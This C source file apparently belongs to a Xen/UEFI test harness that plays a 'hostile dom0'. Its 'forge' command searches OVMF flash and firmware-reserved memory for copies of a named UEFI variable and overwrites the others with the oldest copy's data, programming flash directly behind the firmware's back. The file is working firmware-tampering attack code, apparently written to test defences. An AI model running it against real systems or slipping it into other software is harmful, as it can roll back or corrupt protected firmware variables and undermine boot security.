/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * A hostile dom0 and the variables that run time does not show: looks for all
 * copies of one behind the back of the firmware, in flash and in what the
 * firmware keeps in memory, and puts the first one's data into the others.
 * In flash the first one is the oldest: EDK2 appends, and deletes by a flag.
 */

#include "dom0.h"
#include "hypercall.h"

#define PAGE_SHIFT 12
#define PAGE_SIZE  (1UL << PAGE_SHIFT)

/* QEMU's pc machines: flash ends at 4 GiB, OVMF's variables come first. */
#define FLASH_START 0xffc00000UL
#define FLASH_END   0xffc84000UL

/* Larger areas of the memory map are devices'. */
#define MEMORY_MAX (64UL << 20)

/* JEDEC JEP137: common flash interface, Intel command set. */
#define FLASH_PROGRAM 0x40
#define FLASH_ARRAY   0xff

static uint16_t name[64];
static size_t name_size, data_size;
static uint8_t oldest[1024];
static bool have_oldest;
static unsigned int found, changed;

/* Flash takes a command and a byte at a time. */
static void overwrite(volatile uint8_t *at, bool flash)
{
    size_t i;

    for ( i = 0; i < data_size; i++ )
    {
        if ( flash )
            at[i] = FLASH_PROGRAM;
        at[i] = oldest[i];
    }
    if ( flash )
        *at = FLASH_ARRAY;
}

static void handle_copy(uint8_t *at, bool flash)
{
    found++;
    if ( !have_oldest )
    {
        memcpy(oldest, at, data_size);
        have_oldest = true;
    }
    else if ( memcmp(at, oldest, data_size) )
    {
        overwrite(at, flash);
        changed += !memcmp(at, oldest, data_size);
    }
}

/* EDK2 keeps a variable's data right behind its name. */
static void search(uint8_t *start, size_t size, bool flash)
{
    size_t at;

    for ( at = 0; at + name_size + data_size <= size; at++ )
        if ( start[at] == (uint8_t)name[0] &&
             !memcmp(start + at, name, name_size) )
            handle_copy(start + at + name_size, flash);
}

/* A page twice at each window's edge; no copy is larger. */
static void search_range(uint64_t mfn, uint64_t end, bool flash)
{
    uint64_t frame[WINDOW_FRAMES];
    unsigned int i, nr;
    uint8_t *start;

    for ( ; mfn < end; mfn += nr > 1 ? nr - 1 : 1 )
    {
        nr = end - mfn < WINDOW_FRAMES ? end - mfn : WINDOW_FRAMES;
        for ( i = 0; i < nr; i++ )
            frame[i] = mfn + i;
        start = frames_map(frame, nr, DOMID_SELF);
        if ( !start )
            start = frames_map(frame, nr, DOMID_IO);
        if ( start )
            search(start, nr * PAGE_SIZE, flash);
        if ( end - mfn <= WINDOW_FRAMES )
            break;
    }
    frames_unmap();
}

static void search_memory(void)
{
    static struct e820entry entry[256];
    struct memory_map map = { ARRAY_SIZE(entry), addr(entry) };
    unsigned int i;

    if ( hypercall3(HYPERCALL_memory_op, XENMEM_machine_memory_map,
                    addr(&map), 0) )
        return;

    for ( i = 0; i < map.nr_entries; i++ )
        if ( entry[i].type == E820_RESERVED && entry[i].size <= MEMORY_MAX &&
             entry[i].addr < FLASH_START )
            search_range(entry[i].addr >> PAGE_SHIFT,
                         (entry[i].addr + entry[i].size) >> PAGE_SHIFT, false);
}

/* Returns whether flash holds something else now. */
bool cmd_forge(char *arg)
{
    const char *text = cut(&arg, ':');
    unsigned int in_flash;
    uint64_t size;
    size_t i;

    name_size = (strlen(text) + 1) * sizeof(*name);
    if ( name_size > sizeof(name) || !parse_number(arg, 10, &size) ||
         size > sizeof(oldest) )
    {
        printf("dom0: forge wants NAME:SIZE\n");
        return false;
    }

    for ( i = 0; i <= strlen(text); i++ )
        name[i] = (uint8_t)text[i];
    data_size = size;

    search_range(FLASH_START >> PAGE_SHIFT, FLASH_END >> PAGE_SHIFT, true);
    printf("dom0: forge %s: flash %u copies, %u changed\n", text, found,
           changed);
    in_flash = changed;
    found = changed = 0;
    search_memory();
    printf("dom0: forge %s: memory %u copies, %u changed\n", text, found,
           changed);

    return in_flash;
}
